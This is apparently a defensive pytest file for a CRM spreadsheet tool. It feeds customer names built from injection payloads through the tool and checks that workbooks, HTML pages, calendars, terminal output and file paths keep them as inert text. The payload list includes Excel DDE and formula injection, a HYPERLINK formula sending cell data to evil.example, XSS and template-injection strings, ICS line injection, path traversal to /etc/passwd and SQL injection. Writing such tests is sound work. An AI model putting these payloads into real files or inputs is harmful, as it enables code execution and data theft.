"""Names and texts that mean something to Excel, a browser, a calendar or a terminal come out as the texts they are."""

from __future__ import annotations

import html
import json
import re
import zipfile
from html.parser import HTMLParser
from pathlib import Path

import pytest
from pages import quiet_page
from playwright.sync_api import Browser
from rich_files import by_libreoffice
from sheets import Rows, write_workbook
from test_command_line import crmsheet

from crmsheet.workbook import open_workbook

AS_OF = ("--as-of", "2024-03-20")
EVIL = [
    '=HYPERLINK("http://evil.example/?"&A1,"点我")', "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1",
    "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "<svg/onload=alert(1)>", "javascript:alert(1)", "</td></table><h1>x",
    "{{7*7}}{% raw %}", "\u202e公司司公\u202c", "甲\u200b公\u200d司", "BEGIN:VEVENT\nSUMMARY:x\r\nEND:VEVENT", "x;y,z\\n:w", "_x0041_公司",
    "😀𠮷公司", "a" * 300, "]]><!--", "&lt;b&gt;&amp;", "\x1b[31m红\x1b[0m", "../../../etc/passwd", "CON", "a/b\\c:d*e?f", "%s%n{0}{name}", "'; DROP TABLE x;--",
]  # fmt: skip


@pytest.fixture(scope="module")
def done(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A team whose names are all of these, run, with owners' files and calendars: its folder."""
    folder = tmp_path_factory.mktemp("evil")
    heads = ["客户编号", "客户名称", "负责人", "历史合作金额(万元)", "优先级", "核心需求", "所属行业", "备注"]
    rows: Rows = [heads, *([f"C{i:07d}", text, text, 20 + i, None, text, text, text] for i, text in enumerate(EVIL, 1))]
    log: Rows = [["客户编号", "跟进时间", "跟进方式", "沟通内容摘要", "客户反馈/异议", "下一步计划", "预计完成时间"],
                 *([f"C{i:07d}", "2024-03-01", "电话", text, text, text, "2024-03-21"] for i, text in enumerate(EVIL, 1))]  # fmt: skip
    path = write_workbook(folder / "team.xlsx", {"客户": rows, "跟进记录": log})
    run(path, "process", "--per-owner", "--json")
    run(path, "remind", "--ics", str(folder / "ics"))
    return folder


def run(path: Path, command: str, *more: str) -> str:
    result = crmsheet(command, path, *AS_OF, *more)
    assert result.returncode == 0, result.stderr
    return result.stdout + result.stderr


def test_no_workbook_gains_a_formula_or_a_link_to_elsewhere(done: Path) -> None:
    for path in done.rglob("*.xlsx"):
        if "backups" not in path.parts:
            with zipfile.ZipFile(path) as archive:
                parts = {name: archive.read(name).decode("utf-8") for name in archive.namelist() if name.endswith((".xml", ".rels"))}
            assert not [name for name, text in parts.items() if name.startswith("xl/worksheets/sheet") and re.search(r"<f[ >][^<]*(?:cmd|HYPERLINK)", text)]
            assert not [name for name, text in parts.items() if name.endswith(".rels") and re.search(r'Target="(?:http|javascript)', text)]
            assert "externalLink" not in "".join(parts) and "ddeLink" not in "".join(parts.values())


def test_the_workbook_still_holds_every_text_as_it_was_typed(done: Path) -> None:
    with open_workbook(done / "team.xlsx") as book:
        sheet = book.sheet("客户")
        assert [cell.value for row in range(2, len(EVIL) + 2) if (cell := sheet.cell(f"B{row}"))] == EVIL


class Tags(HTMLParser):
    """Elements and attributes of a page."""

    def __init__(self) -> None:
        super().__init__()
        self.names: set[str] = set()
        self.handlers: set[str] = set()
        self.addresses: set[str] = set()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.names.add(tag)
        self.handlers |= {name for name, _ in attrs if name.startswith("on")}
        self.addresses |= {value or "" for name, value in attrs if name in {"src", "href", "action"}}


def test_the_pages_hold_no_element_or_address_that_a_name_brought(done: Path) -> None:
    for path in done.rglob("*.html"):
        page = Tags()
        page.feed(path.read_text(encoding="utf-8"))
        assert not page.names & {"img", "iframe", "object", "embed", "form", "base", "link"}, path
        assert page.handlers == set()
        assert all(one.startswith("#") for one in page.addresses), page.addresses
        assert "49" not in re.findall(r"\{\{[^}]*\}\}|>49<", path.read_text(encoding="utf-8"))


def test_chromium_runs_nothing_that_a_name_brought(done: Path, browser: Browser) -> None:
    """No dialog, no message, no request; every story opened."""
    whole = done / "crmsheet-reviews" / "team-2024-03-20.html"
    owners = sorted(whole.with_name(f"{whole.stem}-owners").glob("*.html"))
    for path in (whole, *owners[:3]):
        said: list[str] = []
        with quiet_page(browser, path.as_uri()) as page:
            page.on("dialog", lambda dialog, said=said: (said.append(dialog.message), dialog.dismiss()))
            page.evaluate("document.querySelectorAll('details').forEach(one => one.open = true)")
            page.wait_for_timeout(200)
            assert page.locator("main script, main img, main iframe, main svg[onload]").count() == 0
            assert said == []


def test_libreoffice_shows_every_name_as_a_text(done: Path, tmp_path: Path) -> None:
    """Nothing is reckoned, nothing is linked: -2+3 stays what was typed, in the team's workbook and in the review."""
    book, review = done / "team.xlsx", next((done / "crmsheet-reviews").glob("*.xlsx"))
    assert all(path.is_file() for path in by_libreoffice([book, review], tmp_path, "ods"))
    for path in (book, review):
        with zipfile.ZipFile(tmp_path / f"{path.stem}.ods") as archive:
            content = archive.read("content.xml").decode("utf-8")
        told = html.unescape(re.sub("<[^>]+>", "", content.replace("<text:s/>", " ")))
        for text in ("-2+3", "+1+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "{{7*7}}{% raw %}"):
            assert text in told, (path.name, text)
        assert not re.search(r'table:formula="[^"]*(?:cmd|HYPERLINK|SUM\(1|-2\+3|DDE)', content), path.name
        assert not re.search(r'xlink:href="(?:https?:|javascript|file:///etc)', content), path.name


def test_calendars_hold_one_event_a_task_and_nothing_that_a_name_began(done: Path) -> None:
    calendars = list((done / "ics").glob("*.ics"))
    assert calendars
    for path in calendars:
        lines = path.read_bytes().decode("utf-8").split("\r\n")
        assert lines.count("BEGIN:VEVENT") == lines.count("END:VEVENT") == sum(line.startswith("UID:") for line in lines)
        assert not any("\n" in line for line in lines)


def test_no_file_leaves_its_folder_whatever_an_owner_is_called(done: Path) -> None:
    assert {path.name for path in done.iterdir()} == {"team.xlsx", ".crmsheet", "crmsheet-reviews", "ics"}
    assert not (done.parent / "etc").exists()


def test_a_terminal_gets_no_escape_sequence(done: Path) -> None:
    for command, *more in (("check",), ("explain", "C0000022"), ("process", "--dry-run"), ("remind",), ("plan",)):
        assert "\x1b" not in run(done / "team.xlsx", command, *more)


def test_the_document_is_json_and_keeps_the_texts(done: Path) -> None:
    document = json.loads((done / "crmsheet-reviews" / "team-2024-03-20.json").read_bytes())
    assert {one["name"] for one in document["customers"]} >= {EVIL[0], EVIL[6], EVIL[17]}
